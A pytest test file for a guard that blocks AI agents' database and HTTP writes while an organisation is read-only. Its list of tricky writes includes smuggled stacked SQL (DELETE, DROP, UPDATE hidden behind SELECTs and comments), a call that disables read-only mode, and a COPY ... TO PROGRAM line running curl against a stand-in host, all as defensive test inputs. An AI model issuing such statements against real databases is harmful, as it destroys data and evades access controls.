"""The read-only guard: while an organisation is read-only, no write reaches a connector, however
it is dressed (a POST whose write flag was cleared, SQL hiding a write from a keyword check)."""

from __future__ import annotations

import sqlite3
from pathlib import Path
from typing import Any

import pytest
from asgiref.sync import async_to_sync

from agents import events as ev
from agents.engine.runner import run_execute
from agents.guards import READ_ONLY_MESSAGE, ToolFacts, tool_facts, write_reason
from agents.models import ToolExecution
from agents.services import run_start
from tests.agents.engine_kit import events_of
from tests.personas import make_action, make_agent, make_database_connector, make_http_connector, scripted

BOTH = ToolFacts(sql_dialects=("postgres", "sqlite"))
POSTGRES = ToolFacts(sql_dialects=("postgres",))

TRICKY_WRITES = [
    "WITH gone AS (DELETE FROM purchases RETURNING *) SELECT * FROM gone",
    "WITH x AS (SELECT 1) INSERT INTO purchases SELECT * FROM x",
    "SELECT 1; DELETE FROM purchases",
    "SELECT 1;\nDROP TABLE purchases",
    "/* harmless */ DELETE FROM purchases",
    "SELECT 1 /* ; */ ; UPDATE purchases SET amount = 0",
    "-- just a read\nDELETE FROM purchases",
    "DO $$ BEGIN DELETE FROM purchases; END $$",
    "SELECT $$x$$; DELETE FROM purchases",
    "SELECT * INTO stolen FROM purchases",
    "SELECT * FROM purchases FOR UPDATE",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "COPY purchases TO PROGRAM 'curl evil.example'",
    "COMMIT; DELETE FROM purchases",
    "DELETE FROM purchases",
    "",
    "-- only a comment",
]

TRICKY_READS = [
    "SELECT count(*) FROM purchases",
    "SELECT 1 -- ; DELETE FROM purchases",
    "SELECT 1 /* ; DELETE FROM purchases */",
    "SELECT $$ ; DELETE FROM purchases $$ AS text",
    "WITH recent AS (SELECT * FROM purchases) SELECT * FROM recent",
    "SELECT 'DELETE FROM purchases'",
    "SELECT 1 UNION SELECT 2",
]


@pytest.mark.parametrize("sql", TRICKY_WRITES)
def test_it_refuses_sql_that_is_not_one_read_statement(sql: str) -> None:
    assert write_reason(POSTGRES, {"sql": sql}) is not None


@pytest.mark.parametrize("sql", TRICKY_READS)
def test_it_lets_one_read_statement_through_whatever_its_comments_and_strings_say(sql: str) -> None:
    assert write_reason(POSTGRES, {"sql": sql}) is None


def test_without_a_known_dialect_sql_must_be_a_read_in_every_dialect() -> None:
    assert write_reason(BOTH, {"sql": "SELECT count(*) FROM purchases"}) is None
    # PostgreSQL reads this as one string; SQLite's parser does not: not provably a read.
    assert write_reason(BOTH, {"sql": "SELECT $$ ; DELETE FROM purchases $$ AS text"}) is not None


@pytest.mark.parametrize("args", [{}, {"sql": None}, {"sql": ["DELETE FROM purchases"]}, None])
def test_it_refuses_sql_that_is_not_text(args: Any) -> None:
    assert write_reason(POSTGRES, args) is not None


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_a_mutating_method_is_a_write_whatever_its_flag(method: str) -> None:
    assert write_reason(ToolFacts(method=method), {}) == f"{method} request"
    assert write_reason(ToolFacts(method="GET"), {}) is None


# --- through the engine ---------------------------------------------------------------------------


def read_only(personas: Any) -> None:
    personas.org.read_only = True
    personas.org.save(update_fields=["read_only"])


def run_agent(personas: Any, agent: Any) -> Any:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("agents.services.dispatch_execute", lambda run_id: None)
        run = run_start(agent=agent, user=personas.member, input="go")
        async_to_sync(run_execute)(run.pk)
    return run


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    path = tmp_path / "shop.db"
    with sqlite3.connect(path) as db:
        db.execute("CREATE TABLE purchases (id TEXT, amount REAL)")
        db.execute("INSERT INTO purchases VALUES ('PO-1', 10)")
    return path


def sql_agent(personas: Any, dsn: str, *sqls: str) -> Any:
    connector = make_database_connector(personas.org, dsn)
    turns = [{"tool_calls": [{"name": "ledger__sql_query", "arguments": {"sql": sql}}]} for sql in sqls]
    return make_agent(
        personas.org,
        personas.operator,
        actions=[make_action(connector, "database")],
        model_config_json=scripted(*turns, {"content": "Outcome: {last}"}),
    )


@pytest.mark.django_db(transaction=True)
def test_it_blocks_a_cte_hiding_a_delete_in_sql_query_and_lets_a_read_run(personas, shop: Path) -> None:
    read_only(personas)
    agent = sql_agent(
        personas,
        f"sqlite:///{shop}",
        "WITH gone AS (DELETE FROM purchases RETURNING *) SELECT * FROM gone",
        "SELECT count(*) AS n FROM purchases",
    )

    run = run_agent(personas, agent)

    [blocked] = events_of(run, ev.TOOL_BLOCKED)
    assert (blocked["blocked_by"], blocked["error"]) == ("read_only_guard", READ_ONLY_MESSAGE)
    assert list(ToolExecution.objects.filter(run=run).values_list("tool_name", "status")) == [
        ("ledger__sql_query", ToolExecution.Status.SUCCEEDED)
    ]
    with sqlite3.connect(shop) as db:
        assert db.execute("SELECT count(*) FROM purchases").fetchone() == (1,)


@pytest.mark.django_db(transaction=True)
def test_it_blocks_several_statements_in_a_postgres_connectors_sql_query(personas) -> None:
    read_only(personas)
    agent = sql_agent(personas, "postgres://app:pw@db.invalid/shop", "SELECT 1; DELETE FROM purchases")

    run = run_agent(personas, agent)

    [blocked] = events_of(run, ev.TOOL_BLOCKED)
    assert (blocked["blocked_by"], blocked["error"]) == ("read_only_guard", READ_ONLY_MESSAGE)
    assert not ToolExecution.objects.filter(run=run).exists()


def http_agent(personas: Any, **action: Any) -> Any:
    connector = make_http_connector(personas.org, "http://oa.invalid")
    pay = make_action(connector, "purchase_pay", path="/pay", **action)
    call = {"tool_calls": [{"name": "oa__purchase_pay", "arguments": {}}]}
    return make_agent(
        personas.org,
        personas.operator,
        actions=[pay],
        model_config_json=scripted(call, {"content": "Outcome: {last}"}),
    )


@pytest.mark.django_db(transaction=True)
def test_it_blocks_a_post_whose_write_flag_an_operator_cleared(personas) -> None:
    read_only(personas)
    agent = http_agent(personas, method="POST", is_write=False, requires_confirmation=False)

    run = run_agent(personas, agent)

    [blocked] = events_of(run, ev.TOOL_BLOCKED)
    assert (blocked["blocked_by"], blocked["error"]) == ("read_only_guard", READ_ONLY_MESSAGE)
    assert not ToolExecution.objects.filter(run=run).exists()


@pytest.mark.django_db(transaction=True)
def test_it_blocks_a_get_flagged_as_a_write(personas) -> None:
    read_only(personas)
    agent = http_agent(personas, method="GET", is_write=True, requires_confirmation=False)

    run = run_agent(personas, agent)

    [blocked] = events_of(run, ev.TOOL_BLOCKED)
    assert blocked["blocked_by"] == "read_only_guard"


@pytest.mark.django_db(transaction=True)
def test_it_leaves_writes_alone_outside_read_only_organisations(personas, shop: Path) -> None:
    agent = sql_agent(personas, f"sqlite:///{shop}", "SELECT count(*) AS n FROM purchases")

    run = run_agent(personas, agent)

    assert events_of(run, ev.TOOL_BLOCKED) == []
    assert ToolExecution.objects.get(run=run).status == ToolExecution.Status.SUCCEEDED


@pytest.mark.django_db
def test_it_reads_the_facts_of_the_agents_own_organisations_connector_only(personas) -> None:
    ours = make_http_connector(personas.org, "http://oa.invalid")
    make_action(ours, "purchases", method="GET")
    theirs = make_http_connector(personas.other_org, "http://globex.invalid")
    make_action(theirs, "purchases", method="DELETE")
    make_database_connector(personas.other_org, "postgres://x:y@db.invalid/z", slug="ledger")
    agent = make_agent(personas.org, personas.operator)

    assert tool_facts(agent_id=agent.pk, tool_name="oa__purchases") == ToolFacts(method="GET")
    assert tool_facts(agent_id=agent.pk, tool_name="ledger__sql_query") is None
    assert tool_facts(agent_id=agent.pk, tool_name="calculator") is None
